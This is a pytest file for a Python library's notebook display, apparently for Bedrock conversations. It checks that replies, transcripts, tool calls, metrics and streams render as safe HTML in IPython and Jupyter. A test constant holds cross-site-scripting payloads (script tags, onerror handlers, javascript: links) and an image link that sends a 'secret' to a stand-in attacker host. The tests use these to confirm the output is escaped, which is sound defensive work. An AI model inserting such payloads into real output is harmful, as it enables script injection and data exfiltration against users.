"""How replies, conversations, metrics, usage and streams show in notebooks: the MIME bundles
IPython's real display formatter makes of them, the escaping of everything a model, user or
tool wrote, a live stream in a real Jupyter kernel (examples/notebook_display.ipynb), and
the plain-output fallback outside one. All turns go to FakeBedrock over real HTTP."""

from __future__ import annotations

import asyncio
import base64
import io
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from conftest import fc_client
from fastconverse import Reply, tool
from fastconverse.testing import FakeBedrock
from IPython.core.interactiveshell import InteractiveShell
from notebooks import run_notebook
from PIL import Image
from traitlets.config import Config

NOTEBOOK = Path(__file__).resolve().parent.parent / "examples" / "notebook_display.ipynb"
MODEL = "us.anthropic.claude-3-5-haiku-20241022-v1:0"
HOSTILE = (
    "# Title\n<script>alert(1)</script> <img src=x onerror=alert(2)> "
    "[click](javascript:alert(3)) **bold** `a<b` ![leak](https://attacker.example/?q=secret) "
    "[v](vbscript:x) [d](data:text/html,<b>x</b>)"
)


class Tags(HTMLParser):
    """The elements and attributes of an HTML fragment, as a browser's parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def names(self) -> set[str]:
        return {tag for tag, _ in self.tags}

    def assert_inert(self) -> None:
        """No script, no event handler, no javascript: link: nothing that runs."""
        assert "script" not in self.names()
        for tag, attrs in self.tags:
            assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
            for value in attrs.values():
                url = (value or "").strip().lower()
                assert not url.startswith(("javascript:", "vbscript:")), (tag, attrs)
                assert not url.startswith("data:") or url.startswith("data:image/"), attrs
            if tag == "img":  # (only inlined images: a remote one loads without a click)
                assert (attrs.get("src") or "").startswith("data:image/"), attrs


@pytest.fixture(scope="module")
def shell() -> Iterator[InteractiveShell]:
    config = Config()
    config.HistoryManager.enabled = False  # (no history file, no history thread)
    shell = InteractiveShell.instance(config=config)
    shell.run_line_magic("load_ext", "fastconverse")
    yield shell
    InteractiveShell.clear_instance()


def bundle(shell: InteractiveShell, obj: Any) -> dict[str, Any]:
    data, _ = shell.display_formatter.format(obj)
    return dict(data)


def test_a_reply_renders_markdown_and_escapes_what_the_model_wrote(
    shell: InteractiveShell, fake_bedrock: FakeBedrock
) -> None:
    conv = fc_client(fake_bedrock).create_conversation()
    fake_bedrock.enqueue_text(HOSTILE)
    reply = conv.send("hi")
    data = bundle(shell, reply)

    assert data["text/plain"] == repr(reply)  # the text repr is unchanged
    tags = Tags(data["text/html"])
    tags.assert_inert()
    assert {"h1", "strong", "code"} <= tags.names()
    text = "".join(tags.text)
    # what would have been markup shows as the characters the model wrote
    assert "<script>alert(1)</script>" in text
    assert "<img src=x onerror=alert(2)>" in text
    assert "a<b" in text
    assert f"{reply.model_id} · end_turn · {reply.usage.input_tokens} in · " in text
    # the javascript:, vbscript: and data: links are no links; the image is a plain link
    assert [a["href"] for _, a in tags.tags if "href" in a] == [
        "https://attacker.example/?q=secret"
    ]


def test_the_transcript_shows_roles_tools_images_and_escapes_every_part(
    shell: InteractiveShell, fake_bedrock: FakeBedrock
) -> None:
    @tool
    def lookup(query: str) -> str:
        """Looks something up."""
        return f"<b>found</b> {query}"

    conv = fc_client(fake_bedrock).create_conversation(
        "Be <i>brief</i> and **kind**.", tools=[lookup]
    )
    fake_bedrock.enqueue_tool_use("lookup", {"query": "<script>x()</script>"})
    fake_bedrock.enqueue_text("done")
    conv.send("<u>find it</u>")
    picture = io.BytesIO()
    Image.new("RGB", (30, 20), "red").save(picture, format="PNG")
    fake_bedrock.enqueue_text("A red square.")
    import fastconverse

    conv.send(["What is this?", fastconverse.image(picture.getvalue())])

    data = bundle(shell, conv)
    assert data["text/plain"] == repr(conv)
    html = data["text/html"]
    assert html == conv.to_html()
    tags = Tags(html)
    tags.assert_inert()
    text = "".join(tags.text)
    roles = [t for t in tags.text if t in ("user", "assistant")]
    assert roles == ["user", "assistant"] * 3  # the tool round: a call, then its result
    assert "Be <i>brief</i> and" in text and "strong" in tags.names()  # system prompt
    assert "<u>find it</u>" in text  # the user's markup is text
    assert '"query": "<script>x()</script>"' in text  # the tool input, folded
    assert "<b>found</b> <script>x()</script>" in text  # the tool result, folded
    assert text.count("tool call lookup") == 1 and "tool result" in text
    assert len([t for t, _ in tags.tags if t == "details"]) == 3  # system, call, result
    (img,) = [a for t, a in tags.tags if t == "img"]
    src = img["src"] or ""
    assert src.startswith("data:image/png;base64,")
    assert Image.open(io.BytesIO(base64.b64decode(src.split(",", 1)[1]))).size == (30, 20)
    assert f"2 turns · {conv.usage.input_tokens:,} in · {conv.usage.output_tokens:,} out" in text

    prices = {conv.model_id: {"input": 1.0, "output": 2.0}}
    priced = "".join(Tags(conv.to_html(prices=prices)).text)
    assert f"${conv.cost(prices):,.4f}" in priced
    with pytest.raises(ValueError, match="no prices for"):
        conv.to_html(prices={"other-model": {"input": 1.0, "output": 1.0}})


def test_metrics_and_usage_display_as_tables(
    shell: InteractiveShell, fake_bedrock: FakeBedrock
) -> None:
    conv = fc_client(fake_bedrock).create_conversation()
    conv.send("one")
    conv.send("two")
    for obj in (conv.usage, conv.metrics):
        data = bundle(shell, obj)
        assert data["text/plain"] == repr(obj)
        tags = Tags(data["text/html"])
        assert "table" in tags.names()
        cells = [c.strip() for c in tags.text if c.strip()]
        values = dict(zip(cells[::2], cells[1::2]))
        assert values["input_tokens"] == f"{conv.usage.input_tokens:,}"
        assert values["output_tokens"] == f"{conv.usage.output_tokens:,}"
    metrics = Tags(bundle(shell, conv.metrics)["text/html"])
    cells = [c.strip() for c in metrics.text if c.strip()]
    assert cells[cells.index("turns") + 1] == "2"
    assert cells[cells.index("messages") + 1] == "4"
    assert "latency" in cells


def run_python(code: str) -> str:
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


SETUP = f"""
from fastconverse import ConverseClient
from fastconverse.testing import FakeBedrock
fake = FakeBedrock()
client = ConverseClient({MODEL!r}, endpoint_url=fake.url, region_name="us-east-1",
                        aws_access_key_id="k", aws_secret_access_key="s")
conv = client.create_conversation()
fake.enqueue_text({HOSTILE!r})
reply = conv.send("hi")
"""


def test_without_markdown_it_text_shows_escaped_as_written() -> None:
    out = run_python(
        "import sys; sys.modules['markdown_it'] = None\n"  # (as if not installed)
        + SETUP
        + "print(conv.to_html())"
    )
    tags = Tags(out)
    tags.assert_inert()
    assert "h1" not in tags.names() and "strong" not in tags.names()
    assert "# Title\n<script>alert(1)</script>" in "".join(tags.text)
    assert "white-space:pre-wrap" in out


def test_importing_fastconverse_in_a_running_ipython_registers_the_formatters() -> None:
    out = run_python(
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "shell = InteractiveShell.instance()\n"
        + SETUP
        + "data, _ = shell.display_formatter.format(reply)\n"
        "print(sorted(data))"
    )
    assert out.strip() == "['text/html', 'text/plain']"
    # and without IPython running, importing fastconverse does not import it
    assert run_python("import fastconverse, sys; print('IPython' in sys.modules)") == "False\n"


def test_display_outside_a_kernel_writes_the_text_and_tool_calls_as_they_come(
    fake_bedrock: FakeBedrock, capsys: pytest.CaptureFixture[str]
) -> None:
    @tool
    def clock() -> str:
        """The time."""
        return "noon"

    conv = fc_client(fake_bedrock).create_conversation(tools=[clock])
    fake_bedrock.enqueue_tool_use("clock", {})
    fake_bedrock.enqueue_text("It is noon.")
    reply = conv.stream("time?").display()

    assert isinstance(reply, Reply) and reply.text == "It is noon."
    assert conv.last_reply is not None and conv.last_reply.text == reply.text
    out = capsys.readouterr().out
    assert re.fullmatch(
        r"\n\[calling clock…\]\n\n\[clock: done in \d+\.\d\d s\]\nIt is noon\.\n", out
    )


def test_a_failed_display_shows_why_raises_and_keeps_the_history(
    fake_bedrock: FakeBedrock, capsys: pytest.CaptureFixture[str]
) -> None:
    conv = fc_client(fake_bedrock, max_attempts=1).create_conversation()
    conv.send("first")
    before = conv.messages
    fake_bedrock.enqueue_text(
        "one two three four", stream_error="validationException", after_events=3
    )
    stream = conv.stream("second")
    with pytest.raises(Exception, match="validation") as caught:
        stream.display()
    out = capsys.readouterr().out
    assert out.startswith("one ")
    assert out.endswith(
        f"[the stream ended early: {type(caught.value).__name__}: {caught.value}]\n"
    )
    assert conv.messages == before and stream.done


def test_display_async_and_cancelling_it_midway(
    fake_bedrock: FakeBedrock, capsys: pytest.CaptureFixture[str]
) -> None:
    conv = fc_client(fake_bedrock).create_conversation()

    async def main() -> None:
        fake_bedrock.enqueue_text("alpha beta", delta_delay=0.01)
        reply = await conv.stream("go").display_async()
        assert reply.text == "alpha beta" and len(conv.messages) == 2

        fake_bedrock.enqueue_text("one two three four five six", delta_delay=0.2)
        task = asyncio.create_task(conv.stream("again").display_async())
        while "one" not in capsys.readouterr().out:  # (polling; no wall-clock bound)
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(main())
    assert "[the stream ended early: CancelledError]" in capsys.readouterr().out
    assert len(conv.messages) == 2 and not conv.busy


def test_a_stream_as_a_cells_value_displays_itself(
    shell: InteractiveShell, fake_bedrock: FakeBedrock, capsys: pytest.CaptureFixture[str]
) -> None:
    conv = fc_client(fake_bedrock).create_conversation()
    stream = conv.stream("shown")
    shell.display_formatter.format(stream)  # (what IPython does with a cell's value)
    assert capsys.readouterr().out == "You said: shown\n"  # (no kernel: to stdout)
    assert stream.reply.text == "You said: shown" and len(conv.messages) == 2


def test_the_display_notebook_runs_live_in_a_jupyter_kernel(kernel_env: Path) -> None:
    updates: dict[str, list[dict[str, Any]]] = {}
    cells = run_notebook(NOTEBOOK, kernel_env, updates)

    (reply,) = [o for o in cells["reply"].outputs if o.output_type == "execute_result"]
    assert reply.data["text/plain"].startswith("Reply(text='We repair **all kinds** of bikes:")
    tags = Tags(reply.data["text/html"])
    assert {"strong", "li", "code"} <= tags.names()
    assert f"{MODEL} · end_turn" in "".join(tags.text)

    # The stream's output was updated while the text arrived: prefixes of the final text.
    final = "Bring the bike in any morning; a **service** takes about an hour."
    shown = [u["data"]["text/plain"] for u in updates["stream"]]
    assert shown[-1] == final
    partial = [s for s in shown[:-1] if s]
    assert all(final.startswith(s) for s in partial)
    assert len({s for s in partial if s != final}) >= 2
    (live,) = [o for o in cells["stream"].outputs if o.output_type == "display_data"]
    assert live.data["text/plain"] == final  # the finished reply replaced the live text
    assert "strong" in Tags(live.data["text/html"]).names()

    tool_html = [u["data"]["text/html"] for u in updates["stream-tools"]]
    assert any("calling opening_hours…" in h for h in tool_html)
    assert any(re.search(r"opening_hours: done in \d+\.\d\d s", h) for h in tool_html)
    (done,) = [o for o in cells["stream-tools"].outputs if o.output_type == "display_data"]
    assert "On Saturday we are open from 9:00 to 18:00." in done.data["text/html"]
    assert "tool call <code>opening_hours</code>" in done.data["text/html"]

    (transcript,) = [o for o in cells["image"].outputs if o.output_type == "execute_result"]
    assert transcript.data["text/plain"].startswith("Conversation(id=")
    tags = Tags(transcript.data["text/html"])
    (img,) = [a for t, a in tags.tags if t == "img"]
    data = base64.b64decode((img["src"] or "").split(",", 1)[1])
    assert Image.open(io.BytesIO(data)).size == (120, 80)
    text = "".join(tags.text)
    assert "4 turns" in text and "A bicycle seen from the side" in text

    def table(cell: str) -> dict[str, str]:
        (out,) = [o for o in cells[cell].outputs if o.output_type == "execute_result"]
        parts = [c.strip() for c in Tags(out.data["text/html"]).text if c.strip()]
        return dict(zip(parts[::2], parts[1::2]))

    assert table("metrics")["turns"] == "4" and table("metrics")["tool_calls"] == "1"
    usage = table("usage")
    tokens_in, tokens_out = (
        int(usage[k].replace(",", "")) for k in ("input_tokens", "output_tokens")
    )
    (cost,) = [o for o in cells["cost"].outputs if o.output_type == "execute_result"]
    assert (
        f"${tokens_in * 0.0008 / 1000 + tokens_out * 0.004 / 1000:,.4f}" in cost.data["text/html"]
    )


def test_a_failed_or_async_read_stream_as_a_cells_value_shows_its_repr(
    shell: InteractiveShell, fake_bedrock: FakeBedrock, capsys: pytest.CaptureFixture[str]
) -> None:
    conv = fc_client(fake_bedrock, max_attempts=1).create_conversation()
    fake_bedrock.enqueue_error("ValidationException", "no")
    failed = conv.stream("x")
    with pytest.raises(Exception, match="no"):
        failed.until_done()
    shell.display_formatter.format(failed)
    assert capsys.readouterr().out == f"{failed!r}\n"

    async def main() -> None:
        stream = conv.stream("y")
        await stream.__anext__()
        shell.display_formatter.format(stream)
        await stream.display_async()  # (reads the rest, as the hint says)

    asyncio.run(main())
    out = capsys.readouterr().out
    assert "await stream.display_async()` shows it live)" in out and "said: y" in out


def test_to_html_keeps_every_message_unless_told(fake_bedrock: FakeBedrock) -> None:
    conv = fc_client(fake_bedrock).create_conversation()
    for word in ("one", "two", "three"):
        conv.send(word)
    everything = "".join(Tags(conv.to_html()).text)
    assert "one" in everything and "earlier messages" not in everything
    newest = "".join(Tags(conv.to_html(max_messages=2)).text)
    assert "… 4 earlier messages" in newest and "You said: three" in newest
    assert "You said: two" not in newest
